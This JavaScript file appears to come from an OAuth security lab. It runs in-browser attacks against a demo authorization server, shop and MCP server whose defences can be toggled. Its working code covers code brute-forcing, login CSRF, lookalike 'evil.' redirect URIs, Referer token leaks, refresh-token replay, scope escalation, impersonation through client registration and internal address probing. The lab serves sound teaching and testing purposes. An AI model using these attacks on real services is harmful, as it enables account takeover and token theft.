// The attacks. Everything is done with what any page of any site may do: requests across origins, forms, frames and
// popups; and with what arrives at the attacker's own site, which /caught tells.

const { server, shop, app, appId, shopId, attackersId, door } = document.body.dataset;

// The attacker's own (RFC 7636).
const OWN = { verifier: 'a'.repeat(43), challenge: 'ZtNPunH49FD35FWYhT5Tv8I7vRKQJ8uxMaL0_9eHjNA' };
// The shop's, which anyone can read in its script.
const SHARED_VERIFIER = 'one-for-all-customers-of-the-shop-0123456789';

const SHOP_CALLBACK = `${shop}/shop-callback.html`;
const CAUGHT = `${location.origin}/caught.html`;
// The site of the attacker's app that takes the shop's name.
const IMPOSTOR = new URL(shop.replace('//shop.', '//games.'));

/** Near-misses of a registered redirect URI. Each leads to a page of the attacker's. */
export const NEAR_MISSES = {
  longer: { registered: app, asked: `${app}.evil.localhost:${location.port}/caught.html` },
  subdomain: { registered: app, asked: `${app.replace('//', '//evil.')}:${location.port}/caught.html` },
  userinfo: { registered: app, asked: `${app}@${location.host}/caught.html` },
  port: { registered: app, asked: `${app}:${location.port}/caught.html` },
  traversal: {
    registered: `${app}:${location.port}/app/`,
    asked: `${app}:${location.port}/app/../caught.html`,
  },
};

/** The code of the attacker's own account at the shop, for the forged login. */
let ownCode = null;

/** The attacks, by the name of their button. Each resolves with whether it succeeded, and what to say. */
export const ATTACKS = {
  async long_credentials(_section, say) {
    const visit = await Visit.to(`${shop}/shop.html?pause`);
    const code = await visit.caught('/ad.svg', codeIn);
    visit.end();
    if (!code) return [false, 'You closed the popup.'];
    // The rest of it is not looked at.
    const known = code.slice(0, 7);
    const begin = performance.now();
    for (let tried = 1; tried <= 1000; tried += 1) {
      const guess = known + String(tried - 1).padStart(3, '0');
      const answer = await redeem(guess, shopId, SHOP_CALLBACK, SHARED_VERIFIER);
      if (answer.access_token) {
        return [true, `You saw ${known}, and ${guess} is a code: found after ${tried} guesses. `
          + `${await open(answer.access_token)} ${arithmetic(tried, performance.now() - begin)}`];
      }
      if (tried % 20 === 0) say(arithmetic(tried, performance.now() - begin));
    }
    return [false, `You saw ${known}, and no guess is a code. ${arithmetic(1000, performance.now() - begin)}`];
  },

  async frame_protection(section) {
    const frame = section.querySelector('.frame');
    const dialog = frame.querySelector('iframe');
    frame.hidden = false;
    const loaded = new Promise((resolve) => { dialog.onload = resolve; });
    dialog.src = `${server}/oauth-dialog.html`;
    await loaded;
    // A page cannot read a frame of another origin, so it cannot tell a dialog from the browser's error page.
    return (await rules()).frame_protection
      ? [false, 'The browser shows no dialog: the server sent frame-ancestors \'none\'.']
      : [true, 'There is the dialog. Make it invisible, and a click there is a consent.'];
  },

  async own_code(section) {
    const visit = await Visit.to(`${shop}/shop.html?pause`);
    ownCode = await visit.caught('/ad.svg', codeIn);
    visit.end();
    section.querySelector('[data-attack=state_check]').setAttribute('aria-disabled', !ownCode);
    return ownCode
      ? [null, 'You have a code for your own account, and the shop has not redeemed it. Now lure the victim.']
      : [false, 'You closed the popup.'];
  },

  async state_check(section) {
    const visit = await Visit.to(`${SHOP_CALLBACK}?code=${ownCode}`);
    const account = ownCode.slice(0, 20);
    const note = await visit.caught('/drive', (text) => (text.startsWith(account) ? text.slice(21) : null));
    return note
      ? [true, `The shop has connected the victim to your account, and saved there: ${note}.`]
      : [false, 'Nothing was saved in your account. The shop refused an answer without the state of this browser.'];
  },

  async exact_redirect(section) {
    const { asked } = NEAR_MISSES[section.querySelector('select').value];
    const visit = await Visit.to(authorize(appId, asked, OWN.challenge));
    const code = await visit.brought(codeIn);
    if (!code) return [false, 'No code came here. With the defence on, the popup shows why.'];
    return outcome(await redeem(code, appId, asked, OWN.verifier));
  },

  async verified_errors() {
    const visit = await Visit.to(authorize(appId, `${location.origin}/sign-in.html`, OWN.challenge));
    const arrived = await visit.caught('/sign-in.html', (address) => address);
    if (!arrived) return [false, 'The victim did not leave the server, whose page says what is wrong.'];
    const password = await visit.brought((address) => new URL(address).searchParams.get('password'));
    return [true, `The link was to ${new URL(server).host}, and the victim came to your page. `
      + `${password ? `There they typed: ${password}.` : 'They typed nothing there.'}`];
  },

  async single_use_codes() {
    const visit = await Visit.to(`${shop}/shop.html`);
    const code = await visit.caught('/ad.svg', codeIn);
    if (!code) return [false, 'You closed the popup.'];
    const thief = await redeem(code, shopId, SHOP_CALLBACK, SHARED_VERIFIER);
    return thief.access_token
      ? [true, `The shop has a token, and so have you. ${await open(thief.access_token)}`]
      : [false, `Refused: ${thief.error_description}. The shop's token is over, too.`];
  },

  async header_tokens_only() {
    const visit = await Visit.to(`${shop}/shop.html?verifier=own&token=url`);
    const isAccount = (referrer) => referrer.includes('/shop-account.html');
    const referrer = await visit.caught('/ad.svg', (text) => (isAccount(text) ? text : null));
    if (!referrer) return [false, 'You closed the popup.'];
    const token = new URL(referrer).searchParams.get('access_token');
    return token
      ? [true, `Your ad was asked for with a Referer, and a token in it. ${await open(token)} `
        + 'The address is in the browser\'s history, too.']
      : [false, `Your ad was asked for with the Referer ${referrer}: the server takes no token in an address, so the `
        + 'shop sends it in a field.'];
  },

  async pkce() {
    const visit = await Visit.to(`${shop}/shop.html?verifier=own&pause`);
    const code = await visit.caught('/ad.svg', codeIn);
    return code ? outcome(await redeem(code, shopId, SHOP_CALLBACK)) : [false, 'You closed the popup.'];
  },

  async cookieless_cors() {
    const cursor = await lastCatch();
    let page;
    try {
      page = await fetch(authorize(attackersId, CAUGHT, OWN.challenge), { credentials: 'include' });
    } catch {
      return [false, 'The browser does not show this page the dialog of another origin.'];
    }
    const [, request] = / name="request" value="([^"]+)"/.exec(await page.text());
    const form = new URLSearchParams({ request, decision: 'authorize' });
    // The redirect leads here. That the browser does not show its end does not matter: the request has arrived.
    await fetch(`${server}/code`, { method: 'POST', credentials: 'include', body: form }).catch(() => {});
    const { catches } = await catchesAfter(cursor);
    const code = catches.filter(({ at }) => at === '/caught.html').map(({ text }) => codeIn(text)).find(Boolean);
    if (!code) return [false, 'The server refused the form.'];
    return outcome(await redeem(code, attackersId, CAUGHT, OWN.verifier));
  },

  async iss() {
    const visit = await Visit.to(`${shop}/shop.html?verifier=own&with=other`);
    const sent = await visit.caught('/collect', (text) => (text.includes('code=') ? text : null));
    if (!sent) return [false, 'No code came here: the shop saw whose answer it was.'];
    const form = new URLSearchParams(sent);
    return outcome(await redeem(form.get('code'), shopId, SHOP_CALLBACK, form.get('code_verifier')));
  },

  async rotation() {
    const visit = await Visit.to(`${shop}/shop.html?verifier=own&ad=script`);
    const first = await visit.caught('/collect', (text) => tokensIn(text, 0));
    const last = first && await visit.caught('/collect', (text) => tokensIn(text, 2));
    if (!last) return [false, 'You closed the popup too early.'];
    const thief = await refresh(first.refresh_token);
    return thief.access_token
      ? [true, `You and the shop each have a token, and no one notices. ${await open(thief.access_token)}`]
      : [false, `Refused: ${thief.error_description}. The theft is noticed: the grant is over, and with it the `
        + `shop's token. ${await open(last.access_token)}`];
  },

  async scope_limit() {
    const visit = await Visit.to(`${shop}/shop.html?verifier=own&ad=script`);
    const last = await visit.caught('/collect', (text) => tokensIn(text, 2));
    if (!last) return [false, 'You closed the popup too early.'];
    const answer = await refresh(last.refresh_token, { scope: 'answer question' });
    return answer.access_token
      ? [true, `You have a token for: ${answer.scope}. The victim was asked for: answer.`]
      : [false, `Refused: ${answer.error_description}.`];
  },

  async audience() {
    const visit = await Visit.to(`${shop}/shop.html?verifier=own&use=weather`);
    const token = await visit.caught('/weather', (text) => text);
    if (!token) return [false, 'You closed the popup.'];
    const [isOpen, words] = await callTool(token);
    return [isOpen, isOpen
      ? `The token that the shop sent to your server also works elsewhere. ${await open(token)} ${words}`
      : `Refused: the token is only for your server. ${await open(token)} ${words}`];
  },

  async named_by_host() {
    const callback = `${IMPOSTOR.origin}/caught.html`;
    const client = await register('The Victim\'s Shop', callback);
    const visit = await Visit.to(authorize(client, callback, OWN.challenge));
    const answer = await visit.brought((address) => address);
    const isNamed = (await rules()).named_by_host;
    if (!codeIn(answer)) {
      return [false, isNamed
        ? `The victim declined: the dialog named ${IMPOSTOR.host}, and not the shop.`
        : 'The victim declined, though the dialog looked like the shop\'s.'];
    }
    const { access_token: token } = await redeem(codeIn(answer), client, callback, OWN.verifier);
    const [isStolen, words] = token ? await callTool(token) : [false, 'The code bought no token.'];
    return [isStolen, `${words} ${isNamed
      ? `The dialog named ${IMPOSTOR.host}, and you authorized it all the same. This defence informs; the victim `
        + 'decides.'
      : 'The victim believes that the shop did it.'}`];
  },

  async checked_addresses() {
    const visit = await Visit.to(authorize(door, CAUGHT, OWN.challenge));
    // The attacker does not see the door. The lab looks for them.
    const isOpen = await visit.caught('/door/open', (text) => text);
    return isOpen
      ? [true, 'The door is open: the server has asked for it, from its own network. In the popup it says what it '
        + 'found there, which makes a map of the network, address by address.']
      : [false, 'The door did not open. The popup had the reason.'];
  },
};

/** A popup in which the victim follows a link of the attacker's, and what arrives at the attacker's site meanwhile. */
class Visit {
  static async to(address) {
    // Opened at once, while the click allows it.
    const popup = window.open('', '_blank', 'popup,width=480,height=680');
    if (!popup) throw new Error('the browser blocked the popup; allow popups for this page');
    const visit = new Visit(popup, await lastCatch());
    popup.location.replace(address);
    return visit;
  }

  constructor(popup, cursor) {
    this.popup = popup;
    this.cursor = cursor;
    // Of caught.js.
    addEventListener('message', ({ source }) => { this.isAtEnd ||= source === popup; });
  }

  /** What `find` makes of the next catch at `place`, if it makes something of it; null once the popup is closed. */
  async caught(place, find) {
    for (;;) {
      const isClosed = this.popup.closed;
      for (const { id, at, text } of (await catchesAfter(this.cursor)).catches) {
        this.cursor = id;
        const found = at === place ? find(text) : null;
        if (found) return found;
      }
      if (isClosed) return null;
      await pause();
    }
  }

  /** What `find` makes of the address of caught.html, to which the browser is brought. Closes the popup. */
  async brought(find) {
    const found = await this.caught('/caught.html', find);
    // The address is known before the popup shows the page, and Chromium may ignore a close between two sites.
    while (!this.isAtEnd && !this.popup.closed) await pause();
    this.end();
    return found;
  }

  end() {
    this.popup.close();
  }
}

const pause = () => new Promise((resolve) => { setTimeout(resolve, 150); });

async function catchesAfter(number) {
  return (await fetch(`/caught?after=${number}`)).json();
}

const lastCatch = async () => (await catchesAfter(0)).last;

/** The code in an address, or null. */
function codeIn(address) {
  return URL.canParse(address) ? new URL(address).searchParams.get('code') : null;
}

/** Stolen tokens that the shop has renewed so often, or null. */
function tokensIn(text, renewed) {
  const tokens = text.startsWith('{') ? JSON.parse(text) : {};
  return tokens.renewed === renewed ? tokens : null;
}

function authorize(client, redirect, challenge) {
  const query = new URLSearchParams({
    response_type: 'code',
    client_id: client,
    redirect_uri: redirect,
    scope: 'answer',
    code_challenge: challenge,
    code_challenge_method: 'S256',
  });
  return `${server}/authorize?${query}`;
}

/** The identifier of a new client that calls itself `name`. Anyone may register one. */
async function register(name, callback) {
  const body = JSON.stringify({
    client_name: name,
    redirect_uris: [callback],
    grant_types: ['authorization_code', 'refresh_token'],
    token_endpoint_auth_method: 'none',
  });
  const headers = { 'Content-Type': 'application/json' };
  const answer = await fetch(`${server}/register`, { method: 'POST', headers, body });
  if (!answer.ok) throw new Error(`/register answers ${answer.status}`);
  return (await answer.json()).client_id;
}

/** Redeems `code` as `client`. Any site may. */
async function redeem(code, client, redirect, verifier) {
  const body = new URLSearchParams({
    grant_type: 'authorization_code', code, client_id: client, redirect_uri: redirect,
  });
  if (verifier) body.set('code_verifier', verifier);
  return (await fetch(`${server}/token`, { method: 'POST', body })).json();
}

async function refresh(token, parameters) {
  const body = new URLSearchParams({
    grant_type: 'refresh_token', refresh_token: token, client_id: shopId, ...parameters,
  });
  return (await fetch(`${server}/token`, { method: 'POST', body })).json();
}

async function outcome(answer) {
  return answer.access_token
    ? [true, `The code bought a token. ${await open(answer.access_token)}`]
    : [false, `Refused: ${answer.error_description}`];
}

/** What `token` opens, in words. */
async function open(token) {
  const answer = await fetch(`${server}/secure`, { headers: { Authorization: `Bearer ${token}` } });
  return answer.ok ? `It opens /secure: ${(await answer.json()).answer}.` : `/secure answers ${answer.status}.`;
}

/** Whether `token` lets its holder call the tool of the MCP server that has the answer, and what comes of it. */
async function callTool(token) {
  const headers = {
    Authorization: `Bearer ${token}`, 'Content-Type': 'application/json', 'MCP-Protocol-Version': '2025-11-25',
  };
  const call = { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'answer' } };
  const answer = await fetch(`${server}/mcp`, { method: 'POST', headers, body: JSON.stringify(call) });
  return answer.ok
    ? [true, `It calls the tool at /mcp: ${(await answer.json()).result.content[0].text}.`]
    : [false, `/mcp answers ${answer.status}.`];
}

/** How long all ten digits would take at the rate so far. */
function arithmetic(tried, milliseconds) {
  const rate = tried / milliseconds * 1000;
  const [each, days] = [rate, 1e10 / rate / 86400].map((number) => Math.round(number).toLocaleString('en'));
  return `${tried} guesses, ${each} a second. All ten digits take this browser ${days} days; `
    + 'with 1,000 codes in use and 100 machines, the first takes a 100,000th of that.';
}

/** Which defences are on. */
export async function rules() {
  return (await fetch('/rules')).json();
}
